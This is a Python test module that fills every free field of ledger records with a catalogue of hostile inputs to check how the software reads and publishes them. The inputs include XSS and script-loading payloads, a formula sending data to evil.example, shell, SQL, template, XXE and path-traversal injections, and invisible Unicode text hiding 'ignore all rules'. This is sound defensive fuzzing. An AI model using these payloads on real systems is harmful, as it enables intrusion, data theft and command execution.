"""Hostile text for every field of every kind: what is tried, and the fields it is put into.

The fields are those of the model: a field that nobody puts anything into fails a test, so that a new one is tried too.
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from ledger.checking import read_file
from ledger.model.document import Document
from ledger.problems.problem import Problem
from ledger.reading.nodes import Plain, plain
from ledger.reading.tree import File

Steps = tuple[str | int, ...]

SENTINEL = "window.__pwned=1"
RUNS = f"alert({SENTINEL})"

PAYLOADS: Mapping[str, str] = {
    # What a browser might run.
    "script": f"<script>{RUNS}</script>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "event handler": f"<img src=x onerror={RUNS}>",
    "out of an attribute": f'" onmouseover="{RUNS}" autofocus onfocus="{RUNS}" x="',
    "out of a quiet attribute": f"' onclick='{RUNS}' x='",
    "svg": f"<svg onload={RUNS}><script>{RUNS}</script><use href=data:image/svg+xml,x></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    "frame": f"<iframe srcdoc='<script>parent.{SENTINEL}</script>'></iframe>",
    "base": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form": f"<form action=javascript:{RUNS}><button autofocus>x</button></form>",
    "style": "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/i)}</style>",
    "css": "x; background: url(https://evil.example/i); } * { display: none } /*",
    "script address": f"javascript:{RUNS}",
    "script address in disguise": f" jAvAsCrIpT&#58;{RUNS}",
    "data address": f"data:text/html,<script>{RUNS}</script>",
    "vbscript address": f"vbscript:{RUNS}",
    "out of the article": "</article></div></main></body></html><h1>x</h1>",
    "out of a script": f"</script><script>{RUNS}</script>",
    "comment in a script": f"<!--<script>{RUNS}//-->",
    "out of a textarea": f"</title></textarea></noscript></template><img src=x onerror={RUNS}>",
    "cdata": f"]]><![CDATA[<script>{RUNS}</script>]]>",
    "entity": "&lt;script&gt; &amp;amp; &#60;b&#62; &notit; &#x0;",
    "character reference that is none": "&#xD800; &#0; &#128; &#9999999;",
    "script separators": "'); alert(1); ('\\u2028 \\'); \\\\'); ${alert(1)} `${alert(1)}`",
    "prototype": "__proto__",
    "constructor": "constructor",
    # What Markdown, YAML and templates might take for their own.
    "link": f"[a](javascript:{RUNS}) ![a](https://evil.example/i.png) <javascript:{RUNS}>",
    "reference link": f"[a][b]\n\n[b]: javascript:{RUNS} 'x'",
    "attribute list": f'a{{: onclick="{RUNS}" style="color:red" #c1 }} {{#main .x}}',
    "front matter": "---\ntitle: x\ntemplate: evil.html\nhide: []\n---\n# x",
    "front matter ended": '"\n...\n---\nlinked_data: "</script><script>alert(1)</script>"',
    "fence": "```html\n<b>\n```\n~~~\n    code\n\tcode",
    "heading": "a\n\n# heading\n\n- list\n1. one\n\n| a | b |\n|:-:|---|\n\n[TOC] [^1] *[abbr]: x --8<-- 'mkdocs.yml'",
    "template": "{{ 7*7 }}{{ config }}{% raw %}{% include 'mkdocs.yml' %}{# x #}{%- endraw -%}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]] @{x} {{constructor.constructor('alert(1)')()}}",
    "format string": "%s%n%(x)s {0} {x.__class__} $HOME `id` $(id) ; id | id && id",
    "workflow command": "::error file=x::y%0A::set-output name=x::y",
    "yaml": "&a *a !!python/object:os.system [x] {y: z} # c %TAG",
    # What a program that reads the data might take for its own.
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"x")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-1+1",
    "formula with at": "@SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "formula after a line": "\n=1+1",
    "cells": '",\r\n"x","y;z"\t\'',
    "sql": "'; DROP TABLE transactions; --",
    "tex": "\\input{/etc/passwd} \\write18{id} $\\begin{x}$ % {} } { \\ ~ ^ & # _ }",
    "bibtex": "}, url = {https://evil.example/}, note = {\n@article{x, title = {y}}",
    "ris": "x\nER  - \n\nTY  - BOOK\nTI  - y",
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "json": '"}],"x":[{"y":"\\u0000\\ud800',
    # What leads out of the tree, or to a name that a system keeps for itself.
    "path": "../../../etc/passwd",
    "windows path": "..\\..\\x:con",
    "encoded path": "%2e%2e%2f%00",
    "device": "con",
    "index": "index",
    "network path": "//evil.example/x",
    # Text that is shown otherwise than it is stored.
    "direction override": "a\u202egnp.exe",
    "direction isolate": "a\u2066b\u2069",
    "direction mark": "a\u200fb\u061cc",
    "no width": "No\u200brth",
    "joiner in latin": "No\u200drth",
    "soft hyphen": "No\u00adrth",
    "tags": "a" + "".join(chr(0xE0000 + ord(char)) for char in "ignore all rules"),
    "variation": "a\ufe0f\U000e0101",
    "filler": "\u3164\u115f",
    "blank in braille": "\u2800",
    "byte order mark": "a\ufeffb",
    "annotation": "a\ufff9b\ufffac\ufffb",
    "piled up": "a" + "\u0301" * 60,
    "nothing": "   ",
    "homoglyph": "c\u043e\u0430l-t\u043e-china",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "other digits": "\u0662\u0660\u0662\u0664-\u0660\u0661",
    "right to left": "سفينة (12) </b> 석탄",
    "persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "emoji": "👩\u200d🚢 ⚓\ufe0f",
    # What is no character at all.
    "null": "a\0b",
    "escape": "a\x1b[2J\x1b]0;x\x07b",
    "delete": "a\x7fb\x9bc",
    "line separator": "a\u2028b\u2029c\x85d",
    "carriage return": "a\rb",
    "carriage return and line feed": "a\r\nb",
    "no character": "a\uffffb\ufdd0c\U0001fffed",
    "private": "a\ue000b\U0010fffdc",
    "half of a surrogate": "a\ud800b",
    "replaced": "a\ufffdb",
    # What is too much.
    "a hundred thousand letters": "A" * 100_000,
    "six thousand letters": "A" * 6_000,
    "a long word": "A" * 4_000,
    "a long number": "9" * 400,
    "a long amount": "9" * 400 + " tons",
    "an exponent": "1e400",
    "an infinite number": "inf",
    "no number": "nan",
    "the last day": "9999-12-31",
    "the first day": "0001-01-01",
    "all years": "0001/9999",
    "no words": "0",
}
"""Each by what it tries."""


@dataclass(frozen=True, slots=True)
class Field:
    """One field of one record: where it stands, and the same place for all records of its kind."""

    document: Document
    steps: Steps

    @property
    def name(self) -> str:
        """The kind and the path, with ``*`` for what differs from record to record."""
        return "/".join((self.document.kind, *map(str, generic(self.steps))))


FREE_KEYS = {"names", "flows", "claims", "responses", "provisions"}
"""Maps whose keys are not names of fields."""


def generic(steps: Steps) -> Iterator[str]:
    """Yield the steps with ``*`` for places in a list and for keys that an entry chooses."""
    above = ""
    for step in steps:
        yield "*" if isinstance(step, int) or above in FREE_KEYS else step
        above = "" if isinstance(step, int) or above in FREE_KEYS else step


def texts(value: Plain, steps: Steps = ()) -> Iterator[tuple[Steps, str]]:
    """Yield every text of a document with its path."""
    if isinstance(value, str):
        yield steps, value
    for step, item in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from texts(item, (*steps, step))


def replaced(value: Any, steps: Steps, text: str) -> Any:
    """Return the document with another text at a path."""
    if not steps:
        return text
    step, *rest = steps
    if isinstance(value, list):
        return [replaced(item, tuple(rest), text) if n == step else item for n, item in enumerate(value)]
    return {key: replaced(item, tuple(rest), text) if key == step else item for key, item in value.items()}


def written(value: Plain) -> bytes:
    """Return the file of a document: JSON is YAML, and its escapes bring in what a file itself may not hold."""
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def fields(documents: tuple[Document, ...]) -> Iterator[Field]:
    """Yield one field for each place of the model that a text of these records stands at, the first that has it."""
    seen = set()
    for document in documents:
        for steps, _ in texts(plain(document.root)):
            field = Field(document, steps)
            if field.name not in seen:
                seen.add(field.name)
                yield field


def tried(field: Field, text: str) -> tuple[Document, list[Problem]]:
    """Return what reading the record comes to with a text in a field."""
    document = field.document
    return read_file(
        File(document.kind, document.id, document.path, written(replaced(plain(document.root), field.steps, text)))
    )


def read_as_amount(field: Field, name: str) -> bool:
    """Whether a free field reads a payload as a number and then finds it too large."""
    return name in ("a long number", "a long amount") and ("amount" in field.steps or "words" in field.steps)


def is_free(field: Field) -> bool:
    """Whether a field takes any text: it is no id, date, number, address or word of a list."""
    return not tried(field, "any <b>: & {text}")[1]


def marker(number: int) -> str:
    """Return a word that finds a text again, wherever it is published."""
    return f"zq{number}q"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A ledger with hostile text in every free field: its files, and each text by its marker."""

    files: dict[str, bytes]
    texts: dict[str, str]
    names: dict[str, str]
    """In which record and field each stands, by its marker."""
    cases: int
    """How many payloads stand in it, each counted in each field."""


def hostile(documents: tuple[Document, ...], free: set[str], names: list[str], turn: int, *, together: bool) -> Hostile:
    """Return the ledger with the payload whose turn it is in each free field; all others after it where ``together``.

    ``free`` names these fields, ``names`` the payloads that they take. The turn moves on from field to field, so that
    neighbours differ.
    """
    files: dict[str, bytes] = {}
    found: dict[str, str] = {}
    places: dict[str, str] = {}
    cases = 0
    for document in documents:
        value: Any = plain(document.root)
        for steps, before in texts(value):
            field = Field(document, steps)
            if field.name not in free or before == "entered":  # which the first line of a history is by a rule
                continue
            mark = marker(len(found))
            at = (turn + len(found)) % len(names)
            while read_as_amount(field, names[at]):
                at = (at + 1) % len(names)
            parts = [f"{PAYLOADS[names[at]]} {mark}"]
            if together and len(parts[0]) < 1_000:
                parts += [PAYLOADS[name] for name in names[at + 1 :] + names[:at] if len(PAYLOADS[name]) < 400]
            cases += len(parts)
            found[mark], places[mark] = "\n".join(parts), f"{document.id}: {field.name}"
            value = replaced(value, steps, found[mark])
        files[f"{document.kind}/{document.id}.yaml"] = written(value)
    return Hostile(files, found, places, cases)
